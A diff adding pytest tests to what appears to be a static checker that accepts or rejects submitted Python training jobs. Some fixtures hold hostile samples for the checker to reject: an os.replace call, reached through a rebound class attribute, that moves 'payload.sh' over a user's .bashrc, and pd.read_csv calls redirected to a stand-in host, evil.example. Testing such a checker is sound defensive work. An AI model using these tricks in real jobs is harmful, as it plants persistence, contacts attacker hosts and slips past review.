@@ -186,3 +186,42 @@ def test_a_constant_with_blanks_or_controls_is_not_vouched_by_a_pattern(text: st
 
 def test_a_plain_local_path_is_vouched_by_its_pattern() -> None:
     assert _decide("import pandas as pd\npd.read_csv('data/site-1.csv')\n") is Decision.ACCEPT
+
+
+def test_a_module_named_in_an_annotation_is_not_handed_on() -> None:
+    text = ("import torch\nfrom torch.optim.adam import Adam\nfrom typing import Optional\n"
+            "def make(m: torch.nn.Linear) -> Optional[Adam]:\n    return torch.optim.Adam(m.parameters())\n")
+    assert _decide(text) is Decision.ACCEPT
+
+
+def test_a_class_built_in_another_module_keeps_its_methods(tmp_path: Path) -> None:
+    files = {
+        "model.py": "import torch\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return x\n"
+                    "    def scale(self, k):\n        return k\n",
+        "train.py": "from model import Net\nnet = Net()\nnet.scale(2)\nnet.train()\n",
+    }
+    assert _decide_job(tmp_path, files) is Decision.ACCEPT
+    files["train.py"] += "net.cmd.replace('payload.sh', '/home/u/.bashrc')\n"
+    files["model.py"] += "import os\nNet.cmd = os\n"
+    assert _decide_job(tmp_path / "b", files) is not Decision.ACCEPT
+
+
+ATTRIBUTE_SET_FROM_OUTSIDE = {
+    "class-attribute-rebound-after-the-class": (
+        "import pandas as pd\nclass C:\n    url = 'data/x.csv'\n    def go(self):\n        return pd.read_csv(self.url)\n"
+        "C.url = 'https://evil.example/?q=1'\nC().go()\n"),
+    "instance-attribute-rebound-on-the-instance": (
+        "import pandas as pd\nclass C:\n    def __init__(self):\n        self.url = 'data/x.csv'\n    def go(self):\n"
+        "        return pd.read_csv(self.url)\nc = C()\nc.url = 'https://evil.example/?q=1'\nc.go()\n"),
+}
+
+
+@pytest.mark.parametrize("text", list(ATTRIBUTE_SET_FROM_OUTSIDE.values()), ids=list(ATTRIBUTE_SET_FROM_OUTSIDE))
+def test_an_attribute_set_from_outside_the_class_counts(text: str) -> None:
+    assert _decide(text) is not Decision.ACCEPT
+
+
+def test_a_class_attribute_read_by_its_methods_is_vouched() -> None:
+    text = ("import pandas as pd\nclass C:\n    url = 'data/x.csv'\n    def go(self):\n        return pd.read_csv(self.url)\n"
+            "c = C()\nc.name = 'site-1'\nc.go()\n")
+    assert _decide(text) is Decision.ACCEPT
